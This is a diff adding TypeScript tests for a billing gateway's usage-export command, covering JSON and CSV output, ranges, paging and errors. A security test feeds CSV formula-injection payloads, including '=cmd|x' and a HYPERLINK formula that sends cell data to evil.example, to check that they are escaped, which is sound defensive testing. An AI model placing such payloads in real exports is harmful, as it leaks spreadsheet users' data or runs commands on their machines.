@@ -1,0 +1,251 @@
+import assert from "node:assert/strict";
+import { test, type TestContext } from "node:test";
+import { UsageError } from "../../../../src/commands/command.ts";
+import { usage } from "../../../../plugins/billing/commands/usage.ts";
+import { openMeter, type MeterService } from "../../../../plugins/billing/metering/meter.ts";
+import { createMetrics } from "../../../../src/metrics.ts";
+import type { Log } from "../../../../src/plugin.ts";
+import { manualClock } from "../../../../src/testing/clock.ts";
+import { agentOf, minute, noon, principalOf, take } from "../metering/fixture.ts";
+import { commandLine, type CommandLine } from "../../../commands/command-line.ts";
+
+const silent: Log = { debug() {}, info() {}, warn() {}, error() {}, child: () => silent };
+
+/** A folder in which two charges were settled a minute apart; the meter still runs. */
+async function twoCharges(t: TestContext): Promise<CommandLine & { meter: MeterService }> {
+  const line = commandLine(t);
+  const clock = manualClock(noon);
+  const meter = await openMeter({
+    dataDir: line.data,
+    durability: "settled",
+    clock,
+    log: silent,
+    metrics: createMetrics(),
+  });
+  t.after(() => meter.close());
+  await take(meter, principalOf(), 1_000, { requestId: "req-1" }).settle([
+    { surface: "ledger-rpc", method: "chain_getBlock", costMilli: 1_000 },
+  ]);
+  clock.advance(minute);
+  const planner = agentOf("Planner 2", {
+    version: "1.2",
+    sessionId: "s-1",
+    provider: "Acme",
+    capabilities: ["tools", "batch"],
+  });
+  await take(meter, principalOf(), 70, { requestId: 'a,"b"', agent: planner }).settle([
+    {
+      surface: "chat",
+      method: "completions",
+      model: "A/b-1",
+      costMilli: 70,
+      inputTokens: 5,
+      outputTokens: 6,
+      estimated: true,
+      outcome: "clientLeft",
+    },
+  ]);
+  return { ...line, meter };
+}
+
+test("export prints a JSON document a charge while the gateway runs", async (t) => {
+  const { run } = await twoCharges(t);
+  const { code, out, err } = await run(usage, "export");
+  assert.deepEqual([code, err], [0, []]);
+  const rows = out.map((each) => JSON.parse(each) as Record<string, unknown>);
+  assert.deepEqual(rows, [
+    {
+      id: rows[0]?.["id"],
+      time: "2026-01-15T12:00:00.000Z",
+      workspace_id: "ws_1",
+      key_id: "key_1",
+      surface: "ledger-rpc",
+      method: "chain_getBlock",
+      model: null,
+      request_id: "req-1",
+      used_cu_milli: 1000,
+      input_tokens: 0,
+      output_tokens: 0,
+      estimated: false,
+      outcome: "complete",
+    },
+    {
+      id: rows[1]?.["id"],
+      time: "2026-01-15T12:01:00.000Z",
+      workspace_id: "ws_1",
+      key_id: "key_1",
+      surface: "chat",
+      method: "completions",
+      model: "A/b-1",
+      request_id: 'a,"b"',
+      used_cu_milli: 70,
+      input_tokens: 5,
+      output_tokens: 6,
+      estimated: true,
+      outcome: "clientLeft",
+      agent: {
+        name: "Planner 2",
+        version: "1.2",
+        provider: "Acme",
+        capabilities: ["tools", "batch"],
+        session_id: "s-1",
+      },
+    },
+  ]);
+  assert.deepEqual((await run(usage, "export", "--json")).out, out);
+});
+
+test("export prints CSV as RFC 4180 has it", async (t) => {
+  const { run } = await twoCharges(t);
+  const { code, out } = await run(usage, "export", "--format", "csv");
+  assert.equal(code, 0);
+  assert.equal(
+    out[0],
+    "id,time,workspace_id,key_id,surface,method,model,request_id,used_cu_milli,input_tokens,output_tokens,estimated,outcome\r",
+  );
+  assert.match(
+    out[1] ?? "",
+    /^chg_\w+,2026-01-15T12:00:00\.000Z,ws_1,key_1,ledger-rpc,chain_getBlock,,req-1,1000,0,0,false,complete\r$/,
+  );
+  assert.match(out[2] ?? "", /,chat,completions,A\/b-1,"a,""b""",70,5,6,true,clientLeft\r$/);
+  assert.equal(out.length, 3);
+});
+
+// Finding 15.
+test("a spreadsheet takes no text of a CSV for a formula, and numbers stay numbers", async (t) => {
+  const { run, meter } = await twoCharges(t);
+  const models = ["=1+1", "+1", "-1", "@a", "\ta", "\ra", "\na", "\uff1d1+1", "a=1", " a"];
+  for (const model of models) {
+    const charge = { surface: "chat", method: "=cmd|x", model, costMilli: 7, inputTokens: 3 };
+    await take(meter, principalOf(), 7).settle([charge]);
+  }
+  const { out } = await run(usage, "export", "--format", "csv");
+  const shown = out.slice(3).map((line) => /,chat,'=cmd\|x,(.*),[^,]*,7,3,0,/s.exec(line)?.[1]);
+  assert.deepEqual(shown, [
+    "'=1+1",
+    "'+1",
+    "'-1",
+    "'@a",
+    "'\ta",
+    `"'\ra"`,
+    `"'\na"`,
+    "'\uff1d1+1",
+    "a=1",
+    " a",
+  ]);
+});
+
+test("a spreadsheet takes no request id of a CSV for a formula", async (t) => {
+  const { run, meter } = await twoCharges(t);
+  const ids = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-1", "@SUM(A1)", "a=1"];
+  for (const requestId of ids) {
+    const charge = { surface: "chat", method: "completions", costMilli: 1 };
+    await take(meter, principalOf(), 1, { requestId }).settle([charge]);
+  }
+  const { out } = await run(usage, "export", "--format", "csv");
+  const shown = out
+    .slice(3)
+    .map((line) => line.replace(/^(?:[^,]*,){7}/, "").replace(/,1,0.*/s, ""));
+  assert.deepEqual(shown, [
+    `"'=HYPERLINK(""http://evil.example/?""&A1)"`,
+    "'+1",
+    "'-1",
+    "'@SUM(A1)",
+    "a=1",
+  ]);
+  const json = await run(usage, "export");
+  assert.deepEqual(
+    json.out.slice(2).map((line) => (JSON.parse(line) as { request_id: string }).request_id),
+    ids,
+  );
+});
+
+test("export takes a range", async (t) => {
+  const { run } = await twoCharges(t);
+  const count = async (...argv: string[]): Promise<number> => {
+    const { code, out } = await run(usage, "export", ...argv);
+    assert.equal(code, 0);
+    return out.length;
+  };
+  assert.equal(await count("--from", "2026-01-15T12:00:00.001Z"), 1);
+  assert.equal(await count("--to", "2026-01-15T12:01:00Z"), 1);
+  assert.equal(await count("--from", "2026-01-15T13:01:00+01:00", "--to", "2026-01-16"), 1);
+  assert.equal(await count("--from", "2026-01-15"), 2);
+  assert.equal(await count("--to", "2026-01-15"), 0);
+  assert.equal(await count("--from", "2026-01-16", "--format", "csv"), 1);
+});
+
+test("export goes on behind the charge that an earlier one ended with", async (t) => {
+  const { run, meter } = await twoCharges(t);
+  const ids = async (...argv: string[]): Promise<string[]> =>
+    (await run(usage, "export", ...argv)).out.map(
+      (each) => (JSON.parse(each) as { id: string }).id,
+    );
+  const [first = "", second = ""] = await ids();
+  assert.deepEqual(await ids("--after", first), [second]);
+  assert.deepEqual(await ids("--after", second), []);
+  await take(meter, principalOf(), 1, {}).settle([{ surface: "a", method: "m", costMilli: 1 }]);
+  const later = await ids("--after", second);
+  assert.equal(later.length, 1);
+  assert.ok(![first, second].includes(later[0] ?? ""));
+  const ahead = first.replace(/_\d+_\d+$/, "_999999999_0");
+  for (const id of ["chg_000000000000_1_0", ahead]) {
+    const wrong = await run(usage, "export", "--after", id);
+    assert.equal(wrong.code, 1);
+    assert.match(wrong.err.join(), /the journal has no charge with the id/);
+  }
+});
+
+for (const wrong of [
+  "yesterday",
+  "2026-02-30",
+  "2026-13-01",
+  "2026-01-15 12:00:00Z",
+  "2026-01-15T12:00:00",
+  "2026-01-15T25:00:00Z",
+  "1768478400000",
+  "",
+]) {
+  test(`"${wrong}" is no time: wrong usage`, async (t) => {
+    const { run } = commandLine(t);
+    await assert.rejects(run(usage, "export", "--from", wrong), UsageError);
+    await assert.rejects(run(usage, "export", `--to=${wrong}`), UsageError);
+  });
+}
+
+test("an unknown format, an unknown subcommand or none is wrong usage", async (t) => {
+  const { run } = commandLine(t);
+  await assert.rejects(run(usage, "export", "--format", "xml"), /jsonl, csv/);
+  await assert.rejects(run(usage, "export", "--format", "csv", "--json"), UsageError);
+  await assert.rejects(run(usage, "exprot"), /did you mean "export"/);
+  await assert.rejects(run(usage), UsageError);
+  await assert.rejects(run(usage, "export", "all"), UsageError);
+});
+
+test("a data folder without a journal fails with the remedy", async (t) => {
+  const { run, data } = commandLine(t);
+  const { code, out, err } = await run(usage, "export");
+  assert.deepEqual([code, out], [1, []]);
+  assert.match(err.join("\n"), /:4:10 {2}SLUICE_STORE_FAILED {2}there is no journal at /);
+  assert.ok(err.join("\n").includes(data));
+});
+
+test("an export that is told to stop stops", async (t) => {
+  const { meter, configFile } = await twoCharges(t);
+  const many = Array.from({ length: 1_200 }, () => ({ surface: "s", method: "m", costMilli: 0 }));
+  for (let at = 0; at < many.length; at += 200) {
+    await take(meter, principalOf(), 0).settle(many.slice(at, at + 200));
+  }
+  const stopping = new AbortController();
+  let printed = 0;
+  const context = {
+    env: { GATEWAY_ENV: "dev" },
+    print: () => void (++printed === 10 && stopping.abort()),
+    complain: () => {},
+    configFile,
+    signal: stopping.signal,
+    json: false,
+  };
+  assert.equal(await usage.run(context, {}, ["export"]), 1);
+  assert.equal(printed, 500);
+});
